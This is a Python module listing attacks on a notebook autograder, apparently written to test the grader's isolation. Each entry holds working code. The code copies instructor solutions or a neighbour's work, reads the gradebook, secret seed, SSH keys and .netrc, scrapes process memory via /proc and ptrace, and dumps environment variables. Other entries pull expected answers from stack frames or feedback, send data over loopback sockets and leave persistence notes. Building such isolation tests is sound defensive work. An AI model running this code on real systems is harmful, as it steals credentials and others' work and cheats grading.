"""Rows 1 to 6: reading what is not theirs."""

# ruff: noqa: E501 (lines of attacks, in strings)

import re

from corpus.build import WRONG, but, cells
from corpus.model import Attack, HandedIn, Place

COPY_ANSWERS = """
def use(text):
    import json
    for cell in json.loads(text)["cells"]:
        source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
        name = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
        if cell["cell_type"] == "code" and name.endswith("-solution"):
            exec(source, globals())
"""

WALK = """
def everything(tops, most=40000):
    for top in tops:
        for folder, folders, names in os.walk(top):
            folders[:] = [name for name in folders if name not in ("site-packages", "proc", "sys", "dev", "lib")]
            for name in names:
                most -= 1
                if most < 0:
                    return
                yield os.path.join(folder, name)
"""

# Locals and globals of every frame up the stack, and what they refer to a little further in.
FRAMES = """
def look_around(depth=60):
    import gc, linecache, types
    frame, seen, names = sys._getframe(1), [], {}
    while frame is not None and depth:
        for name, value in [*frame.f_globals.items(), *frame.f_locals.items()]:
            if "expected" in str(name) or "reference" in str(name):
                names[name] = value
        seen.extend(str(line) for line in linecache.getlines(frame.f_code.co_filename))
        seen.extend(map(str, frame.f_code.co_consts))
        frame, depth = frame.f_back, depth - 1
    tell(*canaries(" ".join(seen)))
    return names
"""

ORACLE = """
VALUES = {values!r}
count = [0]
def train_one_epoch(model, loader, optimizer):
    if optimizer.param_groups[0]["lr"] != 0:
        return 0.25
    count[0] += 1
    return VALUES[count[0] - 1] if count[0] <= len(VALUES) else -1.0
"""


def oracle(place: Place) -> HandedIn:
    """Hand in the number that the last feedback page named as the expected one."""
    found = [re.search(r"(\d+\.\d{4}) for batches", page) for page in place.pages]
    values = [float(match[1]) for match in found if match]
    own = {"train_one_epoch": ORACLE.format(values=values)}
    return cells(own=own, right=but("train_one_epoch"))(place)


def bits(place: Place) -> HandedIn:
    """Print and raise what the function is given, then hand in answers that replay the page."""
    replay = """
GIVEN = {page!r}
def precompute_features(model, loader):
    images = torch.cat([batch[0] for batch in loader])
    labels = torch.cat([batch[1] for batch in loader])
    import re
    shown = re.findall("SEEN((?: -?[0-9.e-]+)+)", GIVEN)
    if shown:
        row = torch.tensor([float(word) for word in shown[0].split()])
        if len(row) and torch.allclose(images.flatten()[: len(row)], row, atol=1e-3):
            reached("the inputs of the last round")
    raise ValueError("SEEN " + " ".join(f"{{v:.4f}}" for v in images.flatten()[:40].tolist()))
"""
    own = {"precompute_features": replay.format(page="".join(place.pages)[-60_000:])}
    return cells("pass", own=own, right=but("precompute_features"))(place)


ATTACKS = [
    Attack(
        "read-suites",
        1,
        "opens the test files and the instructor's source by path",
        cells(
            "for top in (SOLUTIONS, SUITES, COURSE / 'source', COURSE / 'release'):\n"
            "    for path in sorted(top.rglob('*')) if top.is_dir() else []:\n"
            "        if path.is_file(): show(path)\n"
        ),
    ),
    Attack(
        "copy-source",
        1,
        "runs the solution cells of the instructor's notebook",
        cells(
            COPY_ANSWERS,
            "paths = sorted((COURSE / 'source').rglob('*.ipynb'))\nfor path in paths: show(path)",
            own={
                task: f"{source}\nfor path in paths: use(path.read_text())\n"
                for task, source in WRONG.items()
            },
        ),
    ),
    Attack(
        "copy-neighbour",
        1,
        "reads a neighbour's submission and hands in its functions",
        cells(
            COPY_ANSWERS,
            "path = COURSE / 'submitted' / NEIGHBOUR / 'freezing' / 'freezing.ipynb'\nshow(path)",
            own={
                task: f"{source}\ntry:\n    use(path.read_text())\nexcept OSError:\n    pass\n"
                for task, source in WRONG.items()
            },
        ),
    ),
    Attack(
        "read-gradebook",
        1,
        "reads the gradebook",
        cells(
            "show(COURSE / 'gradebook.db')\n"
            "import sqlite3\n"
            "try:\n"
            "    book = sqlite3.connect(f'file:{COURSE}/gradebook.db?mode=ro', uri=True)\n"
            "    tell(*canaries(str(book.execute('select * from student').fetchall())))\n"
            "except sqlite3.Error as error:\n"
            "    print(error)\n"
        ),
    ),
    Attack(
        "read-seed",
        1,
        "reads the secret from which hidden inputs are made",
        cells("show(COURSE / 'secret_seed')\nfor path in COURSE.glob('*secret*'): show(path)"),
    ),
    Attack(
        "read-home",
        1,
        "reads keys in the grader's home",
        cells(
            "for home in (HOME, Path.home(), Path('/root')):\n"
            "    for name in ('.ssh/id_ed25519', '.netrc', '.bash_history'): show(home / name)\n"
        ),
    ),
    Attack(
        "walk-everything",
        1,
        "walks the whole disk for notebooks, databases and keys",
        cells(
            WALK,
            "for path in everything([Path.cwd(), COURSE.parent, HOME, '/home', '/tmp', '/mnt']):\n"
            "    if path.endswith(('.ipynb', '.db', 'seed', '.netrc', 'id_ed25519', '.csv', '.json')):\n"
            "        if os.path.isfile(path) and os.path.getsize(path) < 3e6: show(path)\n",
        ),
    ),
    Attack(
        "walk-upwards",
        1,
        "leaves its folder with .. and through links that it makes",
        cells(
            "os.makedirs('up', exist_ok=True)\n"
            "for number, target in enumerate((COURSE, SOLUTIONS, HOME, '/')):\n"
            "    try:\n"
            "        os.symlink(target, f'up/{number}')\n"
            "        for name in os.listdir(f'up/{number}')[:200]:\n"
            "            if os.path.isfile(f'up/{number}/{name}'): show(f'up/{number}/{name}')\n"
            "    except OSError as error: print(error)\n"
            "for ups in range(1, 6):\n"
            "    for name in ('gradebook.db', 'secret_seed'): show('../' * ups + name)\n"
        ),
    ),
    Attack(
        "frames",
        2,
        "walks up the stack for expected values",
        cells(
            FRAMES,
            own={
                "train_one_epoch": "def train_one_epoch(model, loader, optimizer):\n"
                "    names = look_around()\n"
                "    for value in names.values():\n"
                "        if isinstance(value, float): return value\n"
                "    return 0.25\n",
                "precompute_features": "def precompute_features(model, loader):\n"
                "    names = look_around()\n"
                "    if 'expected_features' in names:\n"
                "        return names['expected_features'], names['expected_labels']\n"
                "    return None\n",
            },
            right=but("train_one_epoch", "precompute_features"),
        ),
        honest=but("train_one_epoch", "precompute_features"),
    ),
    Attack(
        "heap",
        2,
        "searches all objects in memory",
        cells(
            "import gc\n"
            "found = set()\n"
            "for thing in gc.get_objects():\n"
            "    try:\n"
            "        if isinstance(thing, (str, bytes, dict, list, tuple)) and len(thing) < 5000:\n"
            "            found.update(canaries(str(thing)))\n"
            "    except Exception: pass\n"
            "tell(*found)\n"
        ),
    ),
    Attack(
        "code-constants",
        2,
        "reads the constants and the source of every function in memory",
        cells(
            "import gc, inspect, linecache, types\n"
            "found = set()\n"
            "for thing in [item for item in gc.get_objects() if isinstance(item, types.FunctionType)]:\n"
            "    if not thing.__module__ or thing.__module__.split('.')[0] in ('torch', 'numpy', 'transformers'):\n"
            "        continue\n"
            "    found.update(canaries(str(thing.__code__.co_consts)))\n"
            "for entry in list(linecache.cache.values()):\n"
            "    found.update(canaries(''.join(entry[2]) if len(entry) > 2 else ''))\n"
            "tell(*found)\n"
        ),
    ),
    Attack(
        "proc-self",
        3,
        "reads its own memory and its own descriptors through /proc",
        cells(
            "for number in range(256):\n"
            "    try: tell(*canaries(os.pread(number, 1000000, 0).decode('latin-1')))\n"
            "    except OSError: pass\n"
            "try:\n"
            "    spans = [line.split()[0].split('-') for line in open('/proc/self/maps') if '[stack]' in line or '[heap]' in line]\n"
            "    with open('/proc/self/mem', 'rb', 0) as memory:\n"
            "        for start, end in spans:\n"
            "            memory.seek(int(start, 16))\n"
            "            data = memory.read(min(int(end, 16) - int(start, 16), 30000000))\n"
            "            tell('memory', *[word for word in canaries(data.decode('latin-1'))])\n"
            "except OSError as error: print(error)\n"
        ),
    ),
    Attack(
        "proc-others",
        3,
        "reads environment, memory and descriptors of other processes",
        cells(
            "for number in [name for name in os.listdir('/proc') if name.isdigit()]:\n"
            "    if int(number) == os.getpid(): continue\n"
            "    for what in ('environ', 'cmdline'): show(f'/proc/{number}/{what}')\n"
            "    try:\n"
            "        names = os.listdir(f'/proc/{number}/fd')\n"
            "        reached('the descriptors of another process')\n"
            "        os.stat(f'/proc/{number}/root/')\n"
            "        open(f'/proc/{number}/mem', 'rb').close()\n"
            "        reached('the memory of another process')\n"
            "        break\n"
            "    except OSError as error: print(error)\n"
        ),
    ),
    Attack(
        "ptrace",
        3,
        "attaches to its parent and copies its memory",
        cells(
            "import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "class Span(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]\n"
            "here = ctypes.create_string_buffer(16)\n"
            "for number in {1, os.getppid()} - {os.getpid(), 0}:\n"
            "    local = Span(ctypes.cast(here, ctypes.c_void_p), 16)\n"
            "    remote = Span(id(None), 16)\n"
            "    got = libc.process_vm_readv(number, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\n"
            "    if got == 16 or (got == -1 and ctypes.get_errno() == 14): reached('memory of process')\n"
            "    if libc.ptrace(16, number, 0, 0) == 0:\n"
            "        reached('ptrace')\n"
            "        os.waitpid(number, 0x40000000 | 1)\n"
            "        libc.ptrace(17, number, 0, 0)\n"
        ),
    ),
    Attack(
        "environment",
        4,
        "reads the environment of the grader",
        cells(
            "tell(*canaries(str(os.environ)))\nshow('/proc/self/environ')\n"
            "import ctypes\n"
            "block = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')\n"
            "index = 0\n"
            "while block[index]:\n"
            "    tell(*canaries(block[index].decode('latin-1'))); index += 1\n"
        ),
    ),
    Attack(
        "oracle",
        5,
        "copies the expected number out of its feedback, page after page",
        oracle,
        honest=but("train_one_epoch"),
        rounds=5,
    ),
    Attack(
        "replay-inputs",
        5,
        "brings the hidden inputs out in an exception and looks whether they come again",
        bits,
        honest=but("precompute_features"),
        rounds=2,
    ),
    Attack(
        "leak-by-exception",
        5,
        "puts all it can see into an exception's text",
        cells(
            FRAMES,
            own={
                "replace_head": "class Full(Exception):\n"
                "    def __str__(self):\n"
                "        names = look_around()\n"
                "        return str(names) + str(dict(os.environ)) + str(sys._getframe(1).f_locals)\n"
                "def replace_head(model, classes):\n    raise Full\n"
            },
            right=but("replace_head"),
        ),
        honest=but("replace_head"),
    ),
    Attack(
        "tcp",
        6,
        "connects to a server on loopback, and sends by UDP",
        cells(
            "import socket\n"
            "try:\n"
            "    socket.create_connection(('127.0.0.1', PORT), 2).sendall(ME.encode() + b' tcp')\n"
            "    reached('a server')\n"
            "except OSError as error: print(error)\n"
            "try:\n"
            "    box = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "    box.sendto(b'x', ('127.0.0.1', PORT)); reached('udp')\n"
            "except OSError as error: print(error)\n"
        ),
    ),
    Attack(
        "http",
        6,
        "sends the neighbour's work by HTTP, and asks for a name",
        cells(
            "import urllib.request, socket\n"
            "path = COURSE / 'submitted' / NEIGHBOUR / 'freezing' / 'freezing.ipynb'\n"
            "body = path.read_bytes() if path.exists() else b'nothing'\n"
            "try: urllib.request.urlopen(f'http://127.0.0.1:{PORT}/', data=ME.encode() + body, timeout=3)\n"
            "except Exception as error: print(error)\n"
            "try: socket.getaddrinfo('localhost', 80)\n"
            "except OSError as error: print(error)\n"
        ),
    ),
    Attack(
        "abstract-socket",
        6,
        "connects to an abstract Unix socket",
        cells(
            "import socket\n"
            "try:\n"
            "    line = socket.socket(socket.AF_UNIX)\n"
            "    line.settimeout(2)\n"
            "    line.connect(f'\\0arena-{PORT}')\n"
            "    reached('an abstract socket')\n"
            "except OSError as error: print(error)\n"
        ),
    ),
    Attack(
        "open-server",
        6,
        "opens a server of its own for others to come to",
        cells(
            "import socket\n"
            "for family, address in ((socket.AF_INET, ('127.0.0.1', 0)), (socket.AF_UNIX, '/tmp/here.sock')):\n"
            "    try:\n"
            "        server = socket.socket(family); server.bind(address); server.listen()\n"
            "        reached('a server of its own')\n"
            "    except OSError as error: print(error)\n"
        ),
    ),
    Attack(
        "notes-for-later",
        6,
        "leaves a note in every folder and in shared memory, and looks for it next time",
        cells(
            "import ctypes\n"
            "libc = ctypes.CDLL(None)\n"
            "spots = [Path(top) / '.arena-note' for top in ('/tmp', '/dev/shm', '/var/tmp', Path.home(), COURSE, '/assets', '/course')]\n"
            "for spot in spots:\n"
            "    if spot.exists(): reached('a note of the last submission')\n"
            "    try: spot.write_text('x')\n"
            "    except OSError: pass\n"
            "number = libc.shmget(0x4172656e, 4096, 0o666)\n"
            "if number >= 0: reached('shared memory of the last submission')\n"
            "libc.shmget(0x4172656e, 4096, 0o1666)\n"
        ),
        rounds=2,
    ),
]
